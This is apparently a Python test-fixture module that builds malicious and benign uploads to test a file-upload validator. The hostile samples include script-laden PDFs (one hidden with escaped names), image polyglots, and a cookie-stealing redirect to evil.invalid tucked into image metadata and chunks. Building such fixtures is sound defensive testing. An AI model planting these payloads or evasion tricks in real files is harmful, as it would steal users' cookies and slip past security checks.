"""Real files made in the tests, good and bad, for the upload checks: nothing is read from disk or mocked."""

import functools
import io
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pillow_heif
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, StreamObject

# EXIF tag numbers: GPS IFD pointer, and inside it latitude/longitude with their hemispheres.
GPS_IFD = 0x8825
ORIENTATION = 0x0112


def image_bytes(image_format: str = "JPEG", size=(64, 48), color="seagreen", **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, image_format, **save)
    return out.getvalue()


def jpeg_with_gps(size=(64, 48), orientation: int | None = None, color="seagreen") -> bytes:
    """A phone photo: EXIF with the place it was taken (31.23 N, 121.47 E) and optionally a rotation."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    if orientation:
        exif[ORIENTATION] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps[1], gps[2] = "N", (31.0, 13.0, 48.0)
    gps[3], gps[4] = "E", (121.0, 28.0, 12.0)
    return image_bytes("JPEG", size=size, color=color, exif=exif.tobytes())


def heic_photo(size=(64, 48), color="seagreen") -> bytes:
    """A phone's HEIC photo, written by libheif's HEVC encoder (x265)."""
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", size, color)).save(out, quality=50)
    return out.getvalue()


def tiny_pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="1234", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript (the catalogue's /Names /JavaScript tree), run by a reader when the file opens."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_open_action_javascript() -> bytes:
    """The catalogue's /OpenAction is a JavaScript action whose script sits in a compressed stream."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    script = StreamObject()
    script.set_data(b"app.launchURL('https://evil.invalid/');")
    script = script.flate_encode()
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject("/JavaScript")})
    action[NameObject("/JS")] = writer._add_object(script)
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_compressed_javascript(*, escaped_names: bool = False) -> bytes:
    """A PDF 1.5 whose catalogue and JavaScript /OpenAction live inside a compressed object stream (with a
    cross-reference stream), where a plain byte search cannot see them. With `escaped_names` the action is also
    spelled with #-escapes (/Java#53cript, /J#53), which a reader decodes to the same names."""
    s_name, js_key = (b"/Java#53cript", b"/J#53") if escaped_names else (b"/JavaScript", b"/JS")
    packed = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Type /Action /S " + s_name + b" " + js_key + b" (app.alert\\('hidden'\\);) >>",
    ]
    header, body = [], b""
    for number, source in enumerate(packed, start=1):
        header.append(b"%d %d" % (number, len(body)))
        body += source + b"\n"
    header_bytes = b" ".join(header) + b"\n"
    stream = zlib.compress(header_bytes + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    object_stream_at = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(packed),
        len(header_bytes),
        len(stream),
    )
    out += stream + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 5, index) for index in range(len(packed))]
    rows += [struct.pack(">BIH", 1, object_stream_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
    table = zlib.compress(b"".join(rows))
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(table)
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def truncated_pdf() -> bytes:
    """A PDF header and then noise: what a download cut off in the first kilobytes looks like."""
    return b"%PDF-1.4\n" + random.Random(1).randbytes(4000)


def truncated_jpeg() -> bytes:
    """A JPEG's first bytes (so it is taken for a JPEG) followed by noise."""
    return image_bytes("JPEG")[:24] + random.Random(2).randbytes(4000)


def png_polyglot() -> bytes:
    """A valid PNG with a web page appended after its end: opened as HTML, the script would run."""
    return (
        image_bytes("PNG") + b"<html><body><script>document.location='https://evil.invalid/'+document.cookie</script>"
    )


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>"


def elf_executable() -> bytes:
    """The start of a Linux executable: what a renamed program looks like to a content check."""
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(200)


@functools.cache
def image_bomb() -> bytes:
    """A 20000 x 20000 PNG: about 50 KB on disk, 400 million pixels once decoded (1.2 GB as RGB).

    Cached: encoding it takes most of a second, and several tests send the same bytes."""
    out = io.BytesIO()
    Image.new("1", (20000, 20000), 0).save(out, "PNG")
    return out.getvalue()


def sixteen_megabytes() -> bytes:
    """A PDF-looking file just past the 15 MB limit."""
    return b"%PDF-1.7\n" + bytes(16 * 1024 * 1024)


def png_as_jpeg_name() -> bytes:
    """A PNG screenshot that the phone saved as `photo.jpg`."""
    return image_bytes("PNG")


def jpeg_with_zip_appended() -> bytes:
    """A photo with an archive glued to its end: harmless to an image viewer, but not something to keep."""
    return image_bytes("JPEG") + b"PK\x03\x04" + bytes(26) + b"secret.txt" + b"hidden payload"


@dataclass(frozen=True)
class Refused:
    """A bad file, the name it is uploaded under, and what the upload check says about it."""

    name: str
    build: Callable[[], bytes]
    code: str
    reason: str  # the start of the Chinese reason the user reads after “name”没有保存：

    def __str__(self) -> str:
        return self.code + ":" + self.name


REFUSED = [
    Refused("setup.jpg", elf_executable, "unsupported_type", "只能上传 PDF 或照片"),
    Refused("screenshot.png", png_polyglot, "active_content", "图片里夹带了网页或脚本代码"),
    Refused("drawing.svg", svg_with_script, "unsupported_type", "只能上传 PDF 或照片"),
    Refused("page.html", html_page, "unsupported_type", "只能上传 PDF 或照片"),
    Refused("bank-statement.pdf", sixteen_megabytes, "too_large", "文件超过 15 MB"),
    Refused("bomb.png", image_bomb, "too_many_pixels", "图片尺寸过大"),
    Refused("locked.pdf", encrypted_pdf, "encrypted_pdf", "PDF 设有密码或加密"),
    Refused("script.pdf", pdf_with_javascript, "active_pdf", "PDF 里带有脚本"),
    Refused("open-action.pdf", pdf_with_open_action_javascript, "active_pdf", "PDF 里带有脚本"),
    Refused("object-stream.pdf", pdf_with_compressed_javascript, "active_pdf", "PDF 里带有脚本"),
    Refused("empty.jpg", bytes, "empty", "文件是空的"),
    Refused("cut-off.pdf", truncated_pdf, "broken_pdf", "PDF 无法打开"),
    Refused("cut-off.jpg", truncated_jpeg, "broken_image", "图片无法打开"),
]


# --- images that are also web pages, and images whose pixels merely look like markup --------------------------------

WEB_PAGE = b"<html><body><script>document.location='https://evil.invalid/'+document.cookie</script></body></html>"
# Where a picture of noise, as Pillow writes it (512 x 512 grey, quality 95), has `<svg` in its pixels: the first seed
# from 0 that gives one, found by trying 18,684 of them (4.9 GB of JPEG).
NOISE_SEED_WITH_SVG = 18683


def noise_jpeg_with_svg_in_its_pixels() -> bytes:
    """A photo's worth of compressed pixels that, by chance, hold `<svg` followed by the byte 0xF0: what the markup
    search matches, and what turns up in a real photo's entropy-coded data about once in 700 million bytes.

    Nothing is spliced in: the file is Pillow's JPEG of seeded noise, as it is. Should another libjpeg ever write
    other bytes for it, the tests that use it say so; a new seed is found by trying seeds until the search matches."""
    picture = Image.frombytes("L", (512, 512), random.Random(NOISE_SEED_WITH_SVG).randbytes(512 * 512))
    out = io.BytesIO()
    picture.save(out, "JPEG", quality=95)
    return out.getvalue()


def noise_image(image_format: str, mode: str = "RGB", **save) -> bytes:
    """A 256 x 192 picture of noise, whose compressed pixels take nearly all of the file."""
    picture = Image.effect_noise((256, 192), 64).convert(mode)
    if image_format == "HEIF":
        out = io.BytesIO()
        pillow_heif.from_pillow(picture).save(out, quality=80)
        return out.getvalue()
    out = io.BytesIO()
    picture.save(out, image_format, **save)
    return out.getvalue()


def png_with_svg_in_its_pixels() -> bytes:
    """A palette PNG stored without compression (deflate's stored blocks), so that its IDAT chunk holds the pixel
    values as they are, and they spell `<svg ` on every row."""
    picture = Image.frombytes("P", (16, 4), b"<svg width=1 h=2" * 4)
    picture.putpalette(bytes(range(256)) * 3)
    out = io.BytesIO()
    picture.save(out, "PNG", compress_level=0)
    return out.getvalue()


def jpeg_with_web_page_in_its_comment() -> bytes:
    return image_bytes("JPEG", comment=WEB_PAGE)


def jpeg_with_web_page_in_its_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = WEB_PAGE.decode()  # ImageDescription
    return image_bytes("JPEG", exif=exif.tobytes())


def xmp_packet_with_web_page() -> bytes:
    return b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + WEB_PAGE + b"</x:xmpmeta>"


def jpeg_with_web_page_in_its_xmp() -> bytes:
    return image_bytes("JPEG", xmp=xmp_packet_with_web_page())


def jpeg_with_web_page_after_its_end() -> bytes:
    return image_bytes("JPEG") + WEB_PAGE


def jpeg_with_web_page_before_a_second_end() -> bytes:
    """The page between the image's end and a second end-of-image marker: the last EOI is not where the image ends."""
    return image_bytes("JPEG") + WEB_PAGE + b"\xff\xd9"


def progressive_jpeg_with_web_page_between_its_scans() -> bytes:
    """A progressive JPEG with a comment segment (COM) holding the page just before its second scan."""
    content = image_bytes("JPEG", size=(64, 48), progressive=True)
    second_scan = content.index(b"\xff\xda", content.index(b"\xff\xda") + 2)
    comment = b"\xff\xfe" + struct.pack(">H", len(WEB_PAGE) + 2) + WEB_PAGE
    return content[:second_scan] + comment + content[second_scan:]


def jpeg_with_web_page_in_a_second_view() -> bytes:
    """Two JPEGs one after the other, as an MPO's views or a phone's HDR gain map are stored: the page is in the
    second one's comment."""
    return image_bytes("JPEG") + image_bytes("JPEG", size=(32, 24), comment=WEB_PAGE)


def png_with_text_chunk(*, compressed: bool = False, international: bool = False) -> bytes:
    """The page in a tEXt chunk, or zTXt (compressed), or iTXt (international, compressed when asked)."""
    info = PngImagePlugin.PngInfo()
    if international:
        info.add_itxt("Description", WEB_PAGE.decode(), zip=compressed)
    else:
        info.add_text("Comment", WEB_PAGE.decode(), zip=compressed)
    return image_bytes("PNG", pnginfo=info)


def png_with_private_chunk() -> bytes:
    """The page in a chunk of the application's own (lower-case first letter: a reader may skip it)."""
    content = image_bytes("PNG")
    end = content.index(b"IEND") - 4
    chunk = struct.pack(">I", len(WEB_PAGE)) + b"htMl" + WEB_PAGE
    return content[:end] + chunk + struct.pack(">I", zlib.crc32(chunk[4:])) + content[end:]


def webp_with(*, exif: bytes = b"", xmp: bytes = b"", after: bytes = b"") -> bytes:
    return image_bytes("WEBP", exif=exif, xmp=xmp) + after


def heic_with(*, exif: bytes | None = None, xmp: bytes | None = None, after: bytes = b"") -> bytes:
    """A HEIC photo whose Exif or XMP item (in the mdat box, beside the coded pixels) holds what is given."""
    heif = pillow_heif.from_pillow(Image.new("RGB", (64, 48), "seagreen"))
    if exif is not None:
        heif.info["exif"] = exif
    if xmp is not None:
        heif.info["xmp"] = xmp
    out = io.BytesIO()
    heif.save(out, quality=50)
    return out.getvalue() + after
